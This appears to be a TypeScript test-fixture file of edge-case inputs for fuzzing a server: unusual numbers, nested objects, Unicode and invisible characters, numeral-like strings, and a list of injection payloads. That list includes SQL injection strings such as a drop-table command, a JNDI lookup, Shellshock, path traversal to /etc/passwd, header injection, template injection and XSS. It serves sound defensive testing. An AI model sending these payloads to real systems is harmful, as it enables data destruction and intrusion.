// Edge-case values that are known to break servers: JSON values that are not strings, and strings.

const nested = (depth: number): unknown => {
  let value: unknown = [];
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? [value] : { a: value };
  return value;
};

/** JSON values other than strings. */
export const nonStrings: readonly unknown[] = [
  [null, true, false, 0, -0, 1, -1, 2, 1.5, -1.5, 0.1, 100, 101, 255, 256, 65_535, 65_536],
  [2_147_483_646, 2_147_483_647, 2_147_483_648, -2_147_483_648, -2_147_483_649, 4_294_967_296],
  [2 ** 53 - 1, 2 ** 53, 1e20, 1e21, 1e30, 1e308, -1e308, 5e-324, 1e-7, [], [[]], [null], [""]],
  [["a"], ["a", "b"], [1, 2, 3], [true], Array(1000).fill(0), [{}], {}, { a: 1 }, { length: 1 }],
  [{ toString: "x" }, { toJSON: "x" }, { valueOf: 1 }, { $gt: "" }, { $ne: null }],
  [{ raw: "now()" }, { constructor: { prototype: 1 } }],
  // Parsed, so that __proto__ is an ordinary key, as in a request body.
  [JSON.parse('{"__proto__":{"admin":true}}'), JSON.parse('{"then":1}'), nested(10), nested(500)],
].flat();

const boundaryLengths = [
  1, 7, 8, 49, 50, 51, 100, 101, 199, 200, 201, 255, 256, 999, 1000, 1001, 1023, 1024, 1025,
];

const lengths = [
  [
    "",
    ...boundaryLengths.map((length) => "x".repeat(length)),
    ...boundaryLengths.map((length) => "🎉".repeat(length)),
  ],
  ["e\u0301".repeat(25), "e\u0301".repeat(26), "e\u0301".repeat(100), "e\u0301".repeat(101)],
  ["x".repeat(60_000), "x".repeat(100_000), "%a".repeat(5000)],
].flat();

const invisible = [
  [" ", "   ", "\t", "\n", "\r\n", "\v", "\f", " x ", "\n x \t", "\u0085", "\u00A0", "\u00AD"],
  ["\u034F", "\u061C", "\u115F", "\u1680", "\u180E", "\u2000", "\u200B", "\u200C", "\u200D"],
  ["\u200E", "\u2028", "\u2029", "\u202E", "\u202Ex", "\u2060", "\u2066x\u2069", "\u2800"],
  ["\u3000", "\u3164", "\uFE0F", "\uFEFF", "\uFEFFx", "\uFFA0", "\u{E0001}", "\u{E0020}"],
].flat();

const unstorable = [
  ["\0", "a\0", "\0a", "a\0b", "\0\0\0", "\uD800", "\uDFFF", "a\uD83D", "\uDC00\uD800", "\uDC00a"],
].flat();

const unicode = [
  ["\x01", "\x07", "\b", "\x1B[31mred", "\x1F", "\x7F", "\x80", "\x9F", "a\rb", "a\nb", "\uFFFD"],
  ["\uFFFE", "\uFFFF", "\uE000", "\u{10FFFF}", "\u{1FFFE}", "é", "e\u0301", "É", "ß", "ẞ", "İ"],
  ["ı", "Σ", "ς", "ﬀ", "\u212A", "\u212B", "Ǆ", "ŉ", "ΐ", "שלום", "العربية", "日本語", "हिन्दी"],
  ["z\u0351\u036B\u0343", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "👍🏽"],
].flat();

const names = [
  ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "length"],
  ["null", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "on", "yes"],
  ["[object Object]", "{}", "[]", "[1]", '{"a":1}', '"a"', "'a'", "`a`", "id", "all", "none"],
].flat();

const numerals: readonly string[] = [
  ["0", "-0", "1", "-1", "00", "01", "1.0", "1.5", "1e2", "1E2", "0x10", "0b1", "0o7", "+1", " 1"],
  ["1 ", "1_000", "1,000", ".5", "5.", "½", "٣", "१२३", "１", "Ⅷ", "①", "1n", "--1", "2147483647"],
  ["2147483648", "-2147483649", "9007199254740993", "9223372036854775808", `1${"0".repeat(40)}`],
  ["9".repeat(400), `-${"9".repeat(400)}`, "1e400", "1\0", "1;", "1/2"],
].flat();

const injections = [
  "' \" ; \\ \\' \\\\ % _ %% \\% \\_ $1 $$ ? ?? :a @a -- # /* */ ( ) | & ! * ~ ^".split(" "),
  ["'; drop table tasks; --", "' or '1'='1", "1; select pg_sleep(10)", "1) or (1=1", "abc\\"],
  ["x' and 1=cast((select version()) as int)--", "(select 1)", "{1,2}", "E'\\x00'", "foo & | !"],
  ["\u02BC or 1=1", "$tag$x$tag$", "%s%n%x", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7 %>"],
  ["<script>alert(1)</script>", "<!--", "]]>", "&lt;", "${jndi:ldap://a.example/b}", "() { :;};"],
  ["../../etc/passwd", "..\\..\\x", "/etc/passwd\0.png", "file:///etc/passwd", "//a.example"],
  ["a\r\nSet-Cookie: b=c", "%0d%0aX: y", "%00", "%2e%2e%2f", "%E0%A4%A", "%zz", "%", "\\u0000"],
  ["a=b&c=d", "a[]=1", "a;b", "a,b", "a+b", "a b", "a#b", "a?b", "a/b", "a\\b", "..", "."],
].flat();

/** Strings that look like another type, or that the database cannot store. */
export const typeLikeTexts: readonly string[] = [
  ...lengths.slice(0, 2),
  ...unstorable,
  ...names,
  ...numerals,
];

/** Every edge-case string, for fields that accept any text. */
export const edgeTexts: readonly string[] = [
  ...lengths,
  ...invisible,
  ...unstorable,
  ...unicode,
  ...names,
  ...numerals,
  ...injections,
];
